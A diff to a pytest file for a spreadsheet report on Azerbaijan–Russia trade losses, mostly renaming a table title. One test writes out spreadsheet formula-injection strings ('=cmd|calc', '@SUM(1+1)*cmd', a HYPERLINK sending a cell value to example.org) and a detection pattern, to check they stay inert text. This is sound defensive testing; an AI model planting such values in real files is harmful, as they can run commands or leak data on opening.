@@ -197,8 +197,8 @@ def test_results_follow(found: dict[str, Any]) -> None:
     """The first sheet has the numbers in its own units, who loses more, and verdicts that turn with the inputs."""
     chosen, before = _first_sheet(found["chosen"]), _first_sheet(found["base"])
     # At an elasticity of 2 the buyer's loss is the invoice.
-    assert chosen["At stake", "Goods AZE → RUS"][6] == pytest.approx(1178)
-    assert chosen["At stake", "Goods RUS → AZE"][2] == pytest.approx(3621)
+    assert chosen["Each tie", "Goods AZE → RUS"][6] == pytest.approx(1178)
+    assert chosen["Each tie", "Goods RUS → AZE"][2] == pytest.approx(3621)
     more = "Who loses more", "In money: loss of Azerbaijan over loss of Russia"
     # 635 + 3,621 + 350 + 10 over 1,178 + 986 + 13, against 635 + 1,316 + 350 + 10 over 421 + 986 + 13
     assert (before[more][0], chosen[more][0]) == (pytest.approx(1.628, abs=0.001), pytest.approx(2.120, abs=0.001))
@@ -214,7 +214,7 @@ def _first_sheet(values: engines.Values) -> dict[tuple[str, str], list[Any]]:
     found, table = {}, ""
     for row in range(1, 200):
         label, *cells = (values.get(("Results", f"{column}{row}")) for column in "ABCDEFGHIJKLMN")
-        titles = ("At stake", "Who loses more", "Claims")
+        titles = ("Each tie", "Who loses more", "Claims")
         table = next((title for title in titles if str(label).startswith(title)), table)
         found[table, str(label)] = cells
     return found
@@ -230,9 +230,9 @@ def test_hostile_text_stays_text(books: dict[str, bytes]) -> None:
     book = load_workbook(BytesIO(books["strange"]))
     cells = [cell for sheet in book for row in sheet.rows for cell in row]
     hostile = [cell for cell in cells if cell.data_type == "s" and str(cell.value)[:1] in "=+-@"]
-    assert {'=HYPERLINK("http://example.org/"&A1,"click")', "@SUM(1+1)*cmd", "=cmd|calc", "=1=1"} <= {
-        cell.value for cell in hostile
-    }
+    texts = {str(cell.value) for cell in hostile}
+    assert {"@SUM(1+1)*cmd", "=cmd|calc", "=1=1"} <= texts
+    assert [text for text in texts if text.startswith('=HYPERLINK("http://example.org/"&A1,"click")')]
     running = [str(cell.value) for cell in cells if cell.data_type == "f"]
     assert not [text for text in running if re.search("HYPERLINK|cmd|SUM|WEBSERVICE|click", text, re.IGNORECASE)]
     assert {cell.hyperlink.target for cell in cells if cell.hyperlink} == {"https://example.org/a?b=%22=c"}
